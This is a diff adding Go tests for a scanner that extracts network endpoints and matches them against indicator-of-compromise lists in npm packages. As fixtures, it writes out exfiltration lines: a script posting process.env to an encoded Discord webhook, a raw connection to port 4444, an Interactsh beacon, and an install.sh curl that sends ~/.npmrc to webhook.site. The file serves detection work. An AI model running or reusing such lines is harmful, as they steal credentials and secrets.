@@ -0,0 +1,186 @@
+package scanner
+
+import (
+	"encoding/base64"
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func TestTextEndpoints(t *testing.T) {
+	tests := []struct {
+		name     string
+		text     string
+		expected []string // kind:value of each endpoint
+	}{
+		{"url", "POST to https://Evil.example.org.ru/collect?id=1.", []string{"url:https://Evil.example.org.ru/collect?id=1"}},
+		{"ipv4", "connect 45.9.148.108:4444 now", []string{"ip:45.9.148.108"}},
+		{"ipv6", "host 2a01:4f8:c17:1::1 and [::1]", []string{"ip:2a01:4f8:c17:1::1"}},
+		{"ipv6 url", "http://[2a01:4f8::7]:8080/x", []string{"url:http://[2a01:4f8::7]:8080/x"}},
+		{"host", "api.telegram.org", []string{"host:api.telegram.org"}},
+		{"host with port", "c2.evil.ru:8443", []string{"host:c2.evil.ru:8443"}},
+		{"concatenated host", ".abc123.evil.com", []string{"host:abc123.evil.com"}},
+		{"unlisted tld", "abc123.interact.sh", []string{}},
+		{"url hosts not repeated", "https://1.2.4.8/a https://evil.com", []string{"url:https://1.2.4.8/a", "url:https://evil.com"}},
+		{"reserved", "http://localhost:3000 https://example.com 127.0.0.1 192.0.2.1 0.0.0.0", []string{}},
+		{"versions and oids", "v1.2.3.4 1.2.3.4.5 2.5.29.17 1.3.6.1.4.1", []string{}},
+		{"property paths and files", "process.env index.js config.json lodash.get Foo.Com", []string{}},
+		{"times and scopes", "12:30:45 std::string a::b", []string{}},
+		{"email addresses", "Isaac Z. Schlueter <i@izs.me> (me@gmail.com), https://izs.me", []string{"url:https://izs.me"}},
+		{"files with a tld extension", "coverage/lcov.info Makefile.in build.pl main.cc tar.br", []string{}},
+		{"hosts with a tld extension", "cdn.evil.info www.evil.cc", []string{"host:cdn.evil.info", "host:www.evil.cc"}},
+		{"ipv6 test literals", "1:2:3::8 2001:: ::ffff:1:2 1:2:3:4:5:6:7:8", []string{}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := []string{}
+			for _, e := range textEndpoints([]byte(tt.text), 0, nil) {
+				got = append(got, e.kind+":"+e.value)
+				if tt.text[e.start:e.end] != e.value {
+					t.Errorf("Expected %q at %d, got %q", e.value, e.start, tt.text[e.start:e.end])
+				}
+			}
+			if !reflect.DeepEqual(got, tt.expected) {
+				t.Errorf("Expected %q, got %q", tt.expected, got)
+			}
+		})
+	}
+}
+
+func TestLoadNetworkIoCs(t *testing.T) {
+	dir := t.TempDir()
+	jsonPath := filepath.Join(dir, "network.json")
+	os.WriteFile(jsonPath, []byte(`[
+		{"indicator": "*.Evil-CDN.com.", "campaign": "Stealer", "severity": "high"},
+		{"indicator": "45.9.148.0/24", "campaign": "C2"},
+		{"indicator": "2a01:4f8::7", "campaign": "C2"},
+		{"indicator": "https://gist.githubusercontent.com/attacker/", "campaign": "Dropper"}
+	]`), 0644)
+	csvPath := filepath.Join(dir, "network.csv")
+	os.WriteFile(csvPath, []byte("indicator,campaign,severity\n# exfil\nbad.ru, Exfil, low\n"), 0644)
+
+	db, err := LoadNetworkIoCs(jsonPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if len(db.Entries) != 4 || db.Entries[0].Indicator != "evil-cdn.com" || db.Entries[0].Source != jsonPath {
+		t.Fatalf("Expected 4 normalized entries, got %+v", db.Entries)
+	}
+
+	tests := []struct {
+		kind, value string
+		campaign    string // Empty when nothing matches
+	}{
+		{EndpointHost, "evil-cdn.com", "Stealer"},
+		{EndpointURL, "https://assets.EVIL-cdn.com/x.js", "Stealer"},
+		{EndpointHost, "notevil-cdn.com", ""},
+		{EndpointIP, "45.9.148.108", "C2"},
+		{EndpointIP, "45.9.149.1", ""},
+		{EndpointURL, "http://[2a01:4f8::7]:80/", "C2"},
+		{EndpointURL, "https://gist.githubusercontent.com/attacker/1/raw", "Dropper"},
+		{EndpointURL, "https://gist.githubusercontent.com/someone/1/raw", ""},
+	}
+	for _, tt := range tests {
+		ioc, ok := db.Lookup(tt.kind, tt.value)
+		if ok != (tt.campaign != "") || ioc.Campaign != tt.campaign {
+			t.Errorf("Expected %s to match %q, got %q (matched %v)", tt.value, tt.campaign, ioc.Campaign, ok)
+		}
+	}
+
+	db, err = LoadNetworkIoCs(csvPath)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	if len(db.Entries) != 1 || db.Entries[0].Indicator != "bad.ru" || db.Entries[0].Severity != "low" {
+		t.Errorf("Expected the CSV entry, got %+v", db.Entries)
+	}
+
+	invalidPath := filepath.Join(dir, "invalid.csv")
+	os.WriteFile(invalidPath, []byte("not a host,Campaign\n"), 0644)
+	if _, err := LoadNetworkIoCs(invalidPath); err == nil {
+		t.Error("Expected error but got nil")
+	}
+}
+
+func TestIoCScanner_Network(t *testing.T) {
+	root := t.TempDir()
+	pkgDir := filepath.Join(root, "node_modules", "helper")
+	os.MkdirAll(filepath.Join(pkgDir, "lib"), 0755)
+	os.WriteFile(filepath.Join(pkgDir, "package.json"), []byte(`{
+		"name": "helper",
+		"version": "1.0.0",
+		"author": "Helper <dev@gmail.com> (https://webhook.site/author)",
+		"contributors": [{"name": "Ann", "email": "ann@izs.me", "url": "https://pastebin.com/ann"}],
+		"maintainers": ["Bob <bob@helper.dev>"],
+		"bugs": {"url": "https://transfer.sh/issues", "email": "bugs@helper.dev"}
+	}`), 0644)
+	hook := base64.StdEncoding.EncodeToString([]byte("https://discord.com/api/webhooks/123/abc"))
+	os.WriteFile(filepath.Join(pkgDir, "lib", "index.js"), []byte(
+		"// Docs at https://docs.helper.dev\n"+
+			"const io = require('socket.io')\n"+
+			"fetch('https://registry.npmjs.org/helper')\n"+
+			"fetch('https://registry.npmjs.org/helper')\n"+
+			"post(atob('"+hook+"'), process.env)\n"+
+			"net.connect(4444, '45.9.148.108')\n"+
+			"dns.lookup(id + '.abc123.interact.sh')\n"+
+			"send('beacon.evil.zz', data)\n"), 0644)
+	os.WriteFile(filepath.Join(root, "install.sh"), []byte("curl -d @- https://webhook.site/1f2e < ~/.npmrc\n"), 0644)
+
+	s, err := NewIoCScanner(nil, 100)
+	if err != nil {
+		t.Fatalf("Failed to create scanner: %v", err)
+	}
+	s.Network = NewNetworkDetector()
+	s.Network.IoCs = newNetworkIoCDB([]NetworkIoC{{Indicator: "45.9.148.0/24", Campaign: "C2"}, {Indicator: "evil.zz", Campaign: "Beacon"}})
+
+	findings, err := s.Scan(root)
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+
+	got := map[string]Finding{}
+	for _, f := range findings {
+		if f.Type != "network" {
+			t.Errorf("Expected only network findings, got %+v", f)
+		}
+		got[f.Evidence] = f
+	}
+	if len(got) != 5 {
+		t.Fatalf("Expected 5 network findings, got %+v", findings)
+	}
+	if f := got["https://discord.com/api/webhooks/123/abc"]; f.RuleID != "network/discord-webhook" || f.Decoding != "base64" || f.Line != 5 || f.Name != "helper" || f.Version != "1.0.0" {
+		t.Errorf("Expected the decoded Discord webhook in helper on line 5, got %+v", f)
+	}
+	if f := got["45.9.148.108"]; f.RuleID != "network/45.9.148.0/24" || f.Severity != SeverityCritical || f.Campaign != "C2" {
+		t.Errorf("Expected the IoC address, got %+v", f)
+	}
+	if f := got["abc123.interact.sh"]; f.RuleID != "network/interactsh" || f.Line != 7 {
+		t.Errorf("Expected the Interactsh host on line 7, got %+v", f)
+	}
+	if f := got["beacon.evil.zz"]; f.RuleID != "network/evil.zz" || f.Campaign != "Beacon" {
+		t.Errorf("Expected the IoC domain with an unlisted TLD, got %+v", f)
+	}
+	if f := got["https://webhook.site/1f2e"]; f.RuleID != "network/webhook-site" || f.Name != "" || f.Path != root {
+		t.Errorf("Expected webhook.site outside any package, got %+v", f)
+	}
+
+	packages := s.Network.Endpoints()
+	if len(packages) != 2 || packages[0].Path != root || packages[1].Name != "helper" {
+		t.Fatalf("Expected endpoints of the root and helper, got %+v", packages)
+	}
+	values := map[string]Endpoint{}
+	for _, e := range packages[1].Endpoints {
+		values[e.Value] = e
+	}
+	if len(values) != 5 {
+		t.Errorf("Expected 5 endpoints in helper, ignoring comments and module names, got %+v", packages[1].Endpoints)
+	}
+	if e := values["https://registry.npmjs.org/helper"]; e.Count != 2 || e.Line != 3 || e.Service != "" || e.IoC {
+		t.Errorf("Expected the registry URL named twice from line 3, got %+v", e)
+	}
+	if e := values["45.9.148.108"]; !e.IoC || e.Kind != EndpointIP {
+		t.Errorf("Expected the address marked as an IoC, got %+v", e)
+	}
+}